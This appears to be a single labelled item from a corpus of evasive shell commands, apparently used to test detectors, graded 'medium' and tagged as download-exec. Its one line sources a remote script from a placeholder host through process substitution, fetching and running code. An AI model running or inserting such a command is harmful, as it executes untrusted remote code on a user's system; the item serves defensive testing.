# evasion: source of a process substitution
# grade: medium; does: download-exec
source <(curl -s https://x.example/i.sh)
